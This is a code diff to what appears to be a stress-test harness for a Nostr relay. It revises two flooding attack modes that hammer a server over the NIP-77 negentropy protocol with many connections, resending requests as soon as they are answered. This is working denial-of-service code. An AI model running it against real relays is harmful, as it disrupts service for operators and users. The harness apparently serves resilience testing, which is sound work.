@@ -231,27 +231,28 @@ async function startAttack(name: AttackName, ctx: Ctx): Promise<Attack> {
       // 16 connections, each a NEG-OPEN of 20 filters (every kind range, the whole store) again as
       // soon as answered: the union of the filters' records, and its answer
       const socks = await openMany(ctx.url, 16, ctx.address);
-      const filters = Array.from({ length: 20 }, (_, k) => (k === 0 ? {} : { kinds: [k - 1] }));
+      // kinds 0-19 but 4 (DMs: a filter naming them needs AUTH), and {}
+      const filters = [{}, ...[0, 1, 2, 3, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19].map((k) => ({ kinds: [k] }))];
       negLoop(socks, () => ['NEG-OPEN', null, filters, NEG_EMPTY], tally, isRunning);
-      return { describe: '16 connections, NEG-OPEN with 20 filters ({} and kinds 0-18) again as soon as answered', stop: async () => { running = false; closeAll(socks); return { answers: tally.by, bytes_received: bytesOf(socks) }; } };
+      return { describe: '16 connections, NEG-OPEN with 20 filters ({} and kinds 0-19 but 4) again as soon as answered', stop: async () => { running = false; closeAll(socks); return { answers: tally.by, bytes_received: bytesOf(socks) }; } };
     }
     case 'neg-flood': {
       // 4 connections x 8 sessions over {}; each session sends the 37-byte "send me every id"
-      // NEG-MSG again as soon as answered
-      const socks = await openMany(ctx.url, 4, ctx.address);
+      // NEG-MSG again as soon as answered. Answers are not parsed (only their head is read), so
+      // the attacker's own CPU does not slow the victim it measures.
+      const socks = await openMany(ctx.url, 4, ctx.address, false);
       for (const s of socks) {
-        const pending = new Set<string>();
-        s.onMessage = (m) => {
-          const sub = String(m[1]);
-          if (m[0] === 'NEG-MSG') {
+        s.ws.on('message', (d: Buffer) => {
+          const head = /^\["(NEG-MSG|NEG-ERR)","([^"]+)"(?:,"([a-z-]*))?/.exec(d.subarray(0, 120).toString('latin1'));
+          if (!head || !running || s.closed) return;
+          if (head[1] === 'NEG-MSG') {
             tally.add('neg-msg');
-            if (running && !s.closed) send(s, ['NEG-MSG', sub, NEG_EMPTY]);
-          } else if (m[0] === 'NEG-ERR') {
-            tally.add(prefixOf(m[2]));
-            pending.delete(sub);
-            if (running && !s.closed) setTimeout(() => send(s, ['NEG-OPEN', sub, {}, NEG_EMPTY]), 200);
+            send(s, ['NEG-MSG', head[2], NEG_EMPTY]);
+          } else {
+            tally.add(head[3] || 'neg-err');
+            setTimeout(() => send(s, ['NEG-OPEN', head[2], {}, NEG_EMPTY]), 200);
           }
-        };
+        });
         for (let k = 0; k < 8; k++) send(s, ['NEG-OPEN', `f${k}`, {}, NEG_EMPTY]);
       }
       return { describe: '4 connections x 8 NIP-77 sessions over {}, each resending the 37-byte "every id" NEG-MSG as soon as answered', stop: async () => { running = false; closeAll(socks); return { answers: tally.by, bytes_received: bytesOf(socks) }; } };
